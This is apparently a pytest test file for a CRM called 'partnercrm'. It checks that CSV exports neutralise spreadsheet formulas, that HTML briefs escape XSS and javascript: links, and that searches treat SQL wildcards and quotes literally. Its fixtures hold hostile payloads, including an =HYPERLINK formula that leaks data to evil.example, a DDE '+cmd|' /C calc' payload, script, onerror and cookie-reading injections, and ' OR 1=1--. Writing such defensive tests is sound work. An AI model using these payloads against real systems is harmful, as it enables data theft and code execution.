"""Hostile values stay harmless: in CSV (no formulas), in HTML (escaped, no script links) and in
searches (%, _ and quotes match themselves)."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pytest
from sqlalchemy import update

from partnercrm import colleagues, contacts, conversations, organisations, steps
from partnercrm import models as m
from partnercrm.errors import Invalid, NotFound

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
SCRIPT = "<script>alert('owned')</script> Trust"
QUOTE = "' OR 1=1--"
WILDCARDS = "50%_ Club"


@pytest.fixture
def hostile(db):
    """Partners and people whose names an attacker (or a careless import) chose."""
    long_ago = date.today() - timedelta(days=90)
    with db.transaction() as s:
        ruth = colleagues.add_colleague(s, "Ruth Craven", "ruth@camden.gov.uk")
        ids = {}
        for name in (HYPERLINK, SCRIPT, QUOTE, WILDCARDS, "50 Club", "50X Club", "Camden 50% Fund"):
            org = organisations.add_organisation(s, name, "business", lead=ruth, new=True)
            ids[name] = org.id
        script = s.get(m.Organisation, ids[SCRIPT])
        person = contacts.add_contact(
            s,
            "<img src=x onerror=alert(1)>",
            "img@trust.example",
            script,
            job_title="@SUM(1+1)",
            new=True,
        )
        conv = conversations.log_conversation(
            s,
            s.get(m.Organisation, ids[HYPERLINK]),
            ruth,
            on=long_ago,
            subject="+cmd|' /C calc'!A0",
            note='<b>bold</b> & "quoted"',
        )
        steps.add_step(s, conv, "-2+3 then call", ruth, long_ago + timedelta(days=7), confirm=True)
        conversations.log_conversation(
            s,
            script,
            ruth,
            contacts=[person],
            note="</p><script>x()</script>",
            subject="a first talk",
        )
        return ids


# --- CSV ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\tindented", "'\tindented"),
        ("\r\nnew line", "'\r\nnew line"),
        (SCRIPT, SCRIPT),  # not a formula: left as it is (CSV is not HTML)
        (QUOTE, QUOTE),
        (-5, "-5"),  # a number is a value, not a formula
    ],
)
def test_csv_cells_are_never_formulas(value, written):
    from partnercrm.csv_export import csv_text

    text = csv_text([("v", "Value")], [{"v": value}])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["Value"], [written]]


def test_a_report_exported_as_csv_neutralises_hostile_names(cli, hostile):
    text = cli.ok("report", "stale", "--days", "30", "--csv").stdout
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["Organisation"] for r in rows] == ["'" + HYPERLINK]
    assert rows[0]["Subject"] == "'+cmd|' /C calc'!A0"
    overdue = list(csv.DictReader(io.StringIO(cli.ok("report", "overdue", "--csv").stdout)))
    assert [r["What"] for r in overdue] == ["'-2+3 then call"]
    for row in rows + overdue:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), cell


# --- HTML ---------------------------------------------------------------------------------


def _brief_html(db, org_id: int) -> str:
    from partnercrm.briefs import build_brief, render_html

    with db.reader() as s:
        return render_html(build_brief(s, s.get(m.Organisation, org_id)))


def test_html_briefs_escape_every_value(db, hostile):
    page = _brief_html(db, hostile[SCRIPT])
    assert "<script>alert" not in page and "<img src=x" not in page and "<script>x()" not in page
    assert "&lt;script&gt;alert(&#39;owned&#39;)&lt;/script&gt; Trust" in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    other = _brief_html(db, hostile[HYPERLINK])
    assert "<b>bold</b>" not in other


@pytest.mark.parametrize(
    "website",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(document.cookie)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "http://",
    ],
)
def test_a_script_website_is_refused_when_stored(db, website):
    with db.transaction() as s, pytest.raises(Invalid, match="is not an http"):
        organisations.add_organisation(s, "Evil Ltd", "business", website=website, new=True)


def test_a_script_website_that_got_in_anyway_is_never_a_link(db, hostile):
    """Say an old import or a hand edit stored one: the page still shows it only as text."""
    with db.transaction() as s:
        s.execute(
            update(m.Organisation)
            .where(m.Organisation.id == hostile[SCRIPT])
            .values(website="javascript:alert(1)")
        )
    page = _brief_html(db, hostile[SCRIPT])
    assert 'href="javascript:' not in page.lower()
    assert "javascript:alert(1)" in page  # shown, as text


def test_a_real_website_is_a_safe_link(db, hostile):
    with db.transaction() as s:
        organisations.edit_organisation(
            s, s.get(m.Organisation, hostile[QUOTE]), website='example.org/?q="><script>'
        )
    page = _brief_html(db, hostile[QUOTE])
    assert 'href="https://example.org/?q=&#34;&gt;&lt;script&gt;"' in page
    assert "<script>" not in page.split("<style", 1)[0] + page.split("</style>", 1)[-1]


# --- lookups and search --------------------------------------------------------------------


def test_names_with_wildcards_and_quotes_are_found_literally(db, hostile):
    with db.reader() as s:
        assert organisations.find_organisation(s, WILDCARDS).id == hostile[WILDCARDS]
        assert organisations.find_organisation(s, "50%_").id == hostile[WILDCARDS]  # prefix
        assert organisations.find_organisation(s, QUOTE).id == hostile[QUOTE]
        assert organisations.find_organisation(s, "camden 50%").id == hostile["Camden 50% Fund"]
        with pytest.raises(NotFound):
            organisations.find_organisation(s, "%")  # not "everything"
        with pytest.raises(NotFound):
            organisations.find_organisation(s, "5_ Club")  # _ is not "any one character"
        with pytest.raises(NotFound):
            contacts.find_contact(s, "%")


def test_search_treats_percent_underscore_and_quotes_as_text(db, hostile):
    from partnercrm import search

    with db.reader() as s:
        names = [h.title for h in search.search(s, "50%_", kinds=["organisation"])]
        assert names[0] == WILDCARDS and "50X Club" not in names
        assert [h.title for h in search.search(s, "%", kinds=["organisation"])] == []
        quoted = [h.title for h in search.search(s, QUOTE, kinds=["organisation"])]
        assert quoted[:1] == [QUOTE]
        assert [h.kind for h in search.search(s, "onerror", kinds=["contact"])] == ["contact"]


def test_the_cli_finds_hostile_names_and_prints_them_as_text(cli, hostile):
    shown = cli.json("partner", "show", QUOTE)
    assert shown["name"] == QUOTE
    listed = cli.ok("partner", "list").stdout
    assert SCRIPT in listed and HYPERLINK in listed  # a terminal shows them as they are
    missing = cli("partner", "show", "%")
    assert missing.exit_code == 1 and "no organisation matches '%'" in missing.stderr
